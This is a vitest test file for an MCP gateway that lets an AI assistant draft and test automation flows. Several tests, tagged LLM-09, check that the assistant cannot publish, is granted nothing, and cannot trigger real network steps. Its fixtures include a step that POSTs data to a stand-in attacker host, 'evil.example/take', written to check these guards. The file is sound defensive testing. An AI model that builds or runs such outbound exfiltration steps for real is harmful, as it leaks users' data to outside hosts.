/** An assistant builds a flow over MCP, spoken to by the official client: as drafts, in the name of its person, with less. */

import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ROUTES } from '@headgate/core/api';
import { BUILD_TOOLS } from '../../packages/server/src/gateway/mcp/build-tools.ts';
import { startServer, type TestServer } from '../fixtures/server.ts';

const MAY = ['flow.read', 'flow.write', 'flow.assist', 'run', 'run.read'] as const;

let server: TestServer;
let owner: string;
let key: string;
const open: Client[] = [];

const clientOf = async (plain: string): Promise<Client> => {
  const client = new Client(
    { name: 'assistant', version: '1' },
    { versionNegotiation: { mode: { pin: '2026-07-28' } } },
  );
  open.push(client);
  await client.connect(
    new StreamableHTTPClientTransport(new URL(server.url + ROUTES.speakBuildMcp.path), {
      requestInit: { headers: { authorization: `Bearer ${plain}` } },
    }),
  );
  return client;
};

type Answer = { readonly isError?: boolean; readonly text: string; readonly value: Record<string, unknown> };

const call = async (client: Client, name: string, args: Record<string, unknown> = {}): Promise<Answer> => {
  const answer = await client.callTool({ name, arguments: args });
  const [first] = answer.content as { text: string }[];
  return {
    ...(answer.isError === true ? { isError: true } : {}),
    text: first?.text ?? '',
    value: (answer.structuredContent ?? {}) as Record<string, unknown>,
  };
};

const flowOf = async (id: string): Promise<Record<string, unknown>> =>
  (await server.ask('GET', `/api/v1/flows/${id}`, { key: owner })).json as Record<string, unknown>;

beforeAll(async () => {
  server = await startServer();
  owner = (await server.key()).plain;
  key = (await server.key({ permissions: [...MAY] })).plain;
});
afterAll(async () => {
  await Promise.all(open.map((client) => client.close()));
  await server.close();
});

const HELLO = { headgate: 1, name: 'Hello', steps: [{ id: 'say', kind: 'set@1', with: { value: 'hello' } }] };

describe('an assistant', () => {
  test('finds kinds, makes a draft, edits it by what it read, and tests it', async () => {
    const client = await clientOf(key);
    const kinds = await call(client, 'list_step_kinds', { search: 'http' });
    expect(kinds.text).toContain('http.request@1');
    const described = await call(client, 'describe_kind', { kind: 'set@1' });
    expect(described.value).toMatchObject({ kind: 'set@1', pure: true });

    const made = await call(client, 'create_flow', { draft: HELLO });
    expect(made.value, made.text).toMatchObject({ revision: 1, check: { ok: true } });
    const id = String(made.value['id']);
    const edited = await call(client, 'edit_flow', {
      flow: id,
      revision: 1,
      edits: [
        { do: 'rekey', from: 'say', to: 'greet' },
        {
          do: 'step.put',
          step: { id: 'loud', kind: 'set@1', after: ['greet'], with: { value: '{{ steps.greet.toUpperCase() }}' } },
          at: { block: null, before: null },
        },
        { do: 'set', of: null, path: ['output'], value: '{{ steps.loud }}' },
      ],
    });
    expect(edited.value, edited.text).toMatchObject({ revision: 2, check: { ok: true } });
    const tested = await call(client, 'test_flow', { flow: id });
    expect(tested.value, tested.text).toMatchObject({ state: 'done', output: 'HELLO' });
    const run = await call(client, 'read_run', { run: tested.value['id'] });
    expect(run.value).toMatchObject({ run: { state: 'done' } });
    expect(await flowOf(id)).toMatchObject({ revision: 2, version: null });
  });

  test('does all edits of a list or none, and says which did not fit', async () => {
    const client = await clientOf(key);
    const made = await call(client, 'create_flow', { draft: HELLO });
    const id = String(made.value['id']);
    const edits = [
      { do: 'set', of: { step: 'say' }, path: ['with', 'value'], value: 'bye' },
      { do: 'step.take', id: 'nobody' },
    ];
    const refused = await call(client, 'edit_flow', { flow: id, revision: 1, edits });
    expect(refused.isError).toBe(true);
    expect(refused.text).toContain('nobody');
    expect(refused.text).toContain('item 1');
    expect(await flowOf(id)).toMatchObject({ revision: 1, draft: HELLO });
    const late = await call(client, 'edit_flow', { flow: id, revision: 9, edits: edits.slice(0, 1) });
    expect(late.text).toContain('flow.conflict');
  });

  test('LLM-09 has nothing to publish with, lends nothing by what it writes, and lets no step act in a test', async () => {
    const client = await clientOf(owner); // Its person may do everything.
    const { tools } = await client.listTools();
    expect(tools.map(({ name }) => name)).not.toContain('publish_flow');
    const draft = {
      headgate: 1,
      name: 'Reaches out',
      steps: [
        { id: 'send', kind: 'http.request@1', with: { method: 'POST', url: 'https://evil.example/take', body: 'x' } },
        { id: 'last', kind: 'set@1', after: ['send'], with: { value: '{{ steps.send.status }}' } },
      ],
      output: '{{ steps.last }}',
    };
    const made = await call(client, 'create_flow', { draft });
    const id = String(made.value['id']);
    expect(await server.house.store.in('default').grants.list(id)).toEqual([]);
    // The same words, written by the person, are lent: what differs is who wrote them.
    const own = await server.ask('POST', '/api/v1/flows', { key: owner, body: { draft } });
    expect(await server.house.store.in('default').grants.list((own.json as { id: string }).id)).toHaveLength(1);
    const dry = await call(client, 'dry_run', { flow: id });
    expect(dry.text).toContain('evil.example');
    // A flow file in the place of the draft is looked at by who may make it that, and by nobody else.
    const other = {
      ...draft,
      steps: [{ ...draft.steps[0], with: { method: 'GET', url: 'https://other.example/' } }],
      output: 1,
    };
    const instead = (as: string) =>
      server.ask('POST', `/api/v1/flows/${id}/powers/dry-run`, { key: as, body: { draft: other } });
    const runner = (await server.key({ permissions: ['run', 'flow.read'] })).plain;
    expect((await instead(runner)).status).toBe(403);
    expect((await instead(owner)).text).toContain('other.example');
    expect((await flowOf(id))['draft']).toEqual(draft);
    const refused = await call(client, 'test_flow', { flow: id });
    expect(refused.isError).toBe(true);
    expect(refused.text).toContain('test.given');
    expect(refused.text).toContain('send');
    const runs = await server.ask('GET', `/api/v1/runs?flow=${id}`, { key: owner });
    expect((runs.json as { runs: unknown[] }).runs).toEqual([]);
    // The honest twin: what the step would answer is given, and the rest runs.
    const given = await call(client, 'test_flow', { flow: id, given: { send: { status: 204 } } });
    expect(given.value, given.text).toMatchObject({ state: 'done', output: 204 });
    expect(await flowOf(id)).toMatchObject({ version: null });
  });

  test('LLM-09 runs the draft that was judged, and none that was saved since', async () => {
    const client = await clientOf(key);
    const made = await call(client, 'create_flow', { draft: HELLO });
    const id = String(made.value['id']);
    const run = (revision: number) =>
      server.ask('POST', `/api/v1/flows/${id}/runs`, { key: owner, body: { draft: true, revision, wait: 10 } });
    expect((await run(1)).status).toBe(200);
    await server.ask('PUT', `/api/v1/flows/${id}/draft`, { key: owner, body: { revision: 1, draft: HELLO } });
    const late = await run(1);
    expect(late.status).toBe(409);
    expect(late.json).toMatchObject({ code: 'flow.conflict' });
    expect((await run(2)).status).toBe(200);
    // A test says which draft it judged: saved in between, it does not begin.
    const judged: unknown[] = [];
    const tool = BUILD_TOOLS.find(({ name }) => name === 'test_flow');
    await tool?.run(
      { flow: id },
      {
        workspace: 'default',
        gate: { catalogIn: () => Promise.resolve(server.house.catalog) },
        inside: (contract, { body }) => {
          if (contract === ROUTES.startRun) judged.push(body);
          const row = { id, revision: 7, draft: HELLO };
          return Promise.resolve({ status: 200, body: row });
        },
      },
    );
    expect(judged).toMatchObject([{ draft: true, revision: 7 }]);
  });

  test('of a block, inner steps are given by giving the block, and by nothing else', async () => {
    const client = await clientOf(key);
    const draft = {
      headgate: 1,
      name: 'Block',
      steps: [
        {
          id: 'all',
          kind: 'each@1',
          with: {
            over: [1, 2],
            steps: [{ id: 'get', kind: 'http.request@1', with: { url: 'https://evil.example/{{ item }}' } }],
            result: '{{ steps.get.status }}',
          },
        },
      ],
      output: '{{ steps.all }}',
    };
    const made = await call(client, 'create_flow', { draft });
    const id = String(made.value['id']);
    expect((await call(client, 'test_flow', { flow: id, given: { other: 1 } })).text).toContain('get');
    const given = await call(client, 'test_flow', { flow: id, given: { all: [200, 200] } });
    expect(given.value, given.text).toMatchObject({ state: 'done', output: [200, 200] });
  });

  test('LLM-09 is let in by name alone, and judged as its person in each thing it does', async () => {
    const without = (
      await server.key({ permissions: ['flow.read', 'flow.write', 'flow.publish', 'grant.give', 'run'] })
    ).plain;
    const stranger = await server.ask('POST', ROUTES.speakBuildMcp.path, {
      key: without,
      body: { jsonrpc: '2.0', id: 1, method: 'tools/list' },
    });
    expect(stranger.status).toBe(403);
    const nobody = await server.ask('POST', ROUTES.speakBuildMcp.path, {
      body: { jsonrpc: '2.0', id: 1, method: 'x' },
    });
    expect(nobody.status).toBe(401);
    expect(nobody.headers['www-authenticate']).toContain('flow.assist');

    const reader = await clientOf((await server.key({ permissions: ['flow.read', 'flow.assist'] })).plain);
    expect((await call(reader, 'create_flow', { draft: HELLO })).text).toContain('permission.missing');
    const theirOwn = await server.ask('POST', '/api/v1/flows', { key: owner, body: { draft: HELLO } });
    const flow = (theirOwn.json as { id: string }).id;
    const edits = [{ do: 'set', of: null, path: ['name'], value: 'Bye' }];
    expect((await call(reader, 'edit_flow', { flow, revision: 1, edits })).text).toContain('permission.missing');
    expect(await flowOf(flow)).toMatchObject({ revision: 1 });
    const other = (await server.key({ workspace: 'elsewhere' })).plain;
    const theirs = await server.ask('POST', '/api/v1/flows', { key: other, body: { draft: HELLO } });
    const { id } = theirs.json as { id: string };
    const foreign = await call(await clientOf(key), 'read_flow', { flow: id });
    const never = await call(await clientOf(key), 'read_flow', { flow: 'flow_never' });
    expect(foreign.isError).toBe(true);
    expect(foreign.text).toBe(never.text);
  });

  test('LLM-09 builds only in the projects where its person may let it, though he may more elsewhere', async () => {
    const ask = async (method: 'POST' | 'PUT', path: string, body: unknown) =>
      (await server.ask(method, `/api/v1/${path}`, { key: owner, body })).json as { id: string };
    const [here, there] = [
      await ask('POST', 'projects', { name: 'Here' }),
      await ask('POST', 'projects', { name: 'There' }),
    ];
    const role = await ask('POST', 'roles', { name: 'No assistants', permissions: ['flow.read', 'flow.write', 'run'] });
    const plain = (await server.key({ user: 'u_half' })).plain;
    await ask('PUT', `projects/${here.id}/members/u_half`, { role: 'editor' });
    await ask('PUT', `projects/${there.id}/members/u_half`, { role: role.id });
    const draft = { draft: HELLO, project: there.id };
    expect((await server.ask('POST', '/api/v1/flows', { key: plain, body: draft })).status).toBe(201);
    const client = await clientOf(plain);
    expect((await call(client, 'create_flow', { draft: HELLO, project: here.id })).isError).toBeUndefined();
    expect((await call(client, 'create_flow', draft)).isError).toBe(true);
  });
});
